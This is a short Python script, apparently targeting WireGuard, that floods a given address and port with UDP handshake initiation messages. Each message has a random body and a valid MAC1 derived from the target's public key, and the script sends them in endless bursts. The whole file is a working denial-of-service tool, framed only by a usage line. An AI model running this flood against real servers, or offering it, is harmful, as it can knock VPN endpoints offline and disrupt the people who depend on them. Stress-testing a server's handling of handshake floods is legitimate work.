"""Sends initiations that are random but carry the right first MAC, in bursts, until it is ended:
flood.py ADDRESS PORT PUBLIC_KEY BURST PAUSE_MS"""

import base64
import hashlib
import os
import socket
import sys
import time


def initiation(mac1_key):
    body = b"\x01\0\0\0" + os.urandom(112)
    return body + hashlib.blake2s(body, key=mac1_key, digest_size=16).digest() + bytes(16)


def main():
    address, port, key, burst, pause = sys.argv[1:]
    mac1_key = hashlib.blake2s(b"mac1----" + base64.b64decode(key)).digest()
    messages = [initiation(mac1_key) for _ in range(int(burst))]
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    print("flooding", flush=True)
    while True:
        for message in messages:
            out.sendto(message, (address, int(port)))
        time.sleep(int(pause) / 1000)


main()
